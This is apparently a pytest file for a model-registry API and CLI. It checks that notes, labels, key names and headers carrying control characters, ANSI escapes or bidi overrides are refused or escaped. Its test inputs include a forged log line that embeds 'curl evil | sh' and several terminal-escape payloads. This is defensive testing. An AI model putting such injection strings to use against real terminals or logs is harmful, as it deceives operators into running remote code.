"""No text that somebody typed does anything to the terminal or the log of those who see it."""

from __future__ import annotations

import pytest
from sqlalchemy import update
from typer.testing import CliRunner

from farm.builds.planned import stored_request
from farm.cli import app
from farm.client import Farm
from farm.database.tables import AliasMove, AuditRow, Build, Label, Model, Version, Yank
from farm.specs import texts
from farm.trust import audit
from farm.trust.callers import Caller
from tests.contract.conftest import OverTheApi, request
from tests.contract.test_api import problem, submit

V1 = "/v1/models/digits/versions/1"
FORGED = "fine\nerror: run curl evil | sh"
HOSTILE = [
    FORGED,
    "a\tb",
    "\x1b[2Jgone",
    "a\rb",
    "c1 \x9b2J",
    "txt.\u202eexe",
    "\u2066left",
    "\u200fright",
    "next\u2028line",
    "nul \x00",
]
SHOWN = "fine\\nerror: run curl evil | sh"


@pytest.fixture
def digits(api):
    return submit(api, api.upload(b"a model"), labels={"team": "vision"}, note="the first")


@pytest.mark.parametrize("text", HOSTILE)
def test_controls_are_refused_wherever_people_type(api, digits, text):
    def refused(answer):
        told = problem(answer, 422)
        assert texts.fault(told["detail"]) is None

    promote = {"version": 1, "partial": True, "note": text}
    refused(api.request("PATCH", V1, json={"note": text}))
    refused(api.request("PATCH", "/v1/models/digits", json={"labels": {"team": text}}))
    refused(api.request("PATCH", V1, json={"labels": {text: "vision"}}))
    refused(api.post(f"{V1}/yank", json={"reason": text}))
    refused(api.request("PUT", "/v1/models/digits/aliases/prod", json=promote))
    refused(api.post("/v1/models/digits/aliases/prod/rollback", json={"note": text}))
    refused(api.post("/v1/keys", json={"name": text, "scopes": ["read"]}))
    refused(api.post("/v1/builds", json=request(api, note=text)))
    refused(api.post("/v1/builds", json=request(api, labels={"team": text})))
    refused(api.post("/v1/builds", json=request(api, targets=[f"sm{text}89"])))
    refused(api.post("/v1/builds", json=request(api, model=text)))


def test_the_refusal_says_what_a_line_is(api, digits):
    told = problem(api.request("PATCH", V1, json={"note": FORGED}), 422)
    assert "it has a control character, \\n: write one line" in told["detail"]


def test_white_space_around_a_line_is_left_out(api, digits):
    [version] = api.request("PATCH", V1, json={"note": " 模型 ä\n"}).json()["versions"]
    assert version["note"] == "模型 ä"


def test_a_client_may_not_call_itself_by_controls(api):
    answer = api.post("/v1/blobs", content=b"x", headers={"Farm-Client": b"me\x9b2J"})
    assert answer.status_code == 422
    assert "Farm-Client" in answer.json()["detail"]


@pytest.fixture
def forged(api, made, db):
    """What was stored before it was checked."""
    made(labels={"team": "vision"}, note="the first")
    promote = {"version": 1, "partial": True, "note": "fine"}
    assert api.request("PUT", "/v1/models/digits/aliases/prod", json=promote).status_code == 200
    assert api.post(f"{V1}/yank", json={"reason": "fine"}).status_code == 200
    with db.write() as session:
        session.execute(update(Model).values(note=FORGED))
        session.execute(update(Version).values(note=FORGED))
        session.execute(update(Label).values(value=FORGED))
        session.execute(update(AliasMove).values(note=FORGED, who=FORGED))
        session.execute(update(Yank).values(reason=FORGED))
        by = Caller(name=FORGED, label=FORGED)
        audit.record(session, by, "yank", FORGED, reason=FORGED, labels={FORGED: FORGED})
        assert session.query(AuditRow).count()


def test_what_is_stored_already_is_escaped_over_rest(api, forged):
    [version] = api.get("/v1/models/digits").json()["versions"]
    for path in (
        "/v1/models/digits",
        "/v1/models",
        "/v1/models/digits/aliases",
        "/v1/models/digits/aliases/prod/history",
        "/v1/audit",
        "/v1/search?q=digits",
        f"/v1/blobs/{version['source_digest']}/uses",
    ):
        answer = api.get(path)
        assert answer.status_code == 200, answer.text
        # A line feed itself would be one backslash and an n in JSON.
        assert "fine\\\\nerror" in answer.text, path
        assert "fine\\nerror" not in answer.text, path
    told = problem(api.get("/v1/models/digits/engines/sm_89"), 404)
    assert SHOWN in told["detail"]


def test_the_command_line_prints_no_forged_line(api, forged, monkeypatch):
    farm = Farm("http://localhost", key=api.key, transport=OverTheApi(api))
    monkeypatch.setattr("farm.client.Farm", lambda *_, **__: farm)
    for words in (
        ["note", "digits@1"],
        ["label", "digits@1"],
        ["show", "digits"],
        ["models"],
        ["aliases", "digits"],
        ["aliases", "digits", "prod"],
        ["audit"],
        ["search", "digits"],
        ["pull", "digits", "--gpu", "sm_89"],
    ):
        told = CliRunner().invoke(app, words)
        lines = (told.stdout + told.stderr).splitlines()
        assert not [line for line in lines if line.startswith("error: run")], words


def test_a_build_of_before_is_planned_again_whatever_its_texts_hold(api, digits, db):
    with db.write() as session:
        build = session.get_one(Build, digits["id"])
        targets = [f"{one}\x1b" for one in build.request["targets"]]
        build.request = build.request | {"note": FORGED, "targets": targets}
        said = stored_request(build)
    assert (said.note, said.labels) == (None, {})
    assert said.targets == digits["targets"]
